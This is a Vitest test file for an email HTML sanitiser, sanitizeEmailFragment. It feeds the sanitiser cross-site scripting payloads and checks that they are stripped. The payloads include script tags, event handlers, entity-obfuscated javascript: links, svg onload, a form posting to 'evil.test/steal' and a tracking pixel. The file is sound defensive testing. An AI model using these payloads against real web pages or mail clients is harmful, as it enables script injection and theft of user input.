import { describe, expect, it } from 'vitest';
import { sanitizeEmailFragment } from './sanitize-email-fragment';

/**
 * The server's last word on a text block's HTML (decision 0020). markdown-it already shows raw HTML as text, so the
 * campaign tests pass even without this step; these cases feed it the HTML directly, as a Markdown renderer with a
 * flaw (or a later change of its options) would hand it over.
 */
describe('sanitizeEmailFragment', () => {
  it.each([
    ['a script', '<p>Hi<script>alert(1)</script></p>', '<p>Hi</p>'],
    ['a form posting elsewhere', '<form action="https://evil.test/steal" method="post"><input name="p"><button>Go</button></form><p>ok</p>', '<p>ok</p>'],
    ['an event handler', '<p onclick="alert(1)">x</p><a href="https://example.com" onmouseover="alert(1)">y</a>', '<p>x</p><a href="https://example.com">y</a>'],
    ['a javascript: link', '<a href="javascript:alert(1)">x</a>', '<a>x</a>'],
    ['a javascript: link in other case and with entities', '<a href="JaVaScRiPt&colon;alert(1)">x</a><a href="&#106;avascript:alert(1)">y</a>', '<a>x</a><a>y</a>'],
    ['a data: link', '<a href="data:text/html,<script>alert(1)</script>">x</a>', '<a>x</a>'],
    ['a protocol-relative link', '<a href="//evil.test/">x</a>', '<a>x</a>'],
    ['an iframe, an object, an embed, svg and style', '<iframe src="https://evil.test"></iframe><object data="x"></object><embed src="x"><svg onload="alert(1)"></svg><style>p{}</style><p>z</p>', '<p>z</p>'],
    ['an image with a tracking source', '<img src="https://evil.test/pixel.gif">', ''],
    ['a style attribute and a class', '<p style="background:url(https://evil.test/)" class="x">x</p>', '<p>x</p>'],
  ])('removes %s', (_label, input, expected) => {
    expect(sanitizeEmailFragment(input)).toBe(expected);
  });

  it('keeps what the Markdown of a text block makes', () => {
    const html = '<p><strong>Bold</strong> <em>it</em> <a href="https://example.com/?a=1&amp;b=2">link</a> <a href="mailto:team@example.com">mail</a><br />next</p><ul><li>one</li></ul><ol><li>two</li></ol><p><code>x</code></p>';
    expect(sanitizeEmailFragment(html)).toBe(html);
  });
});
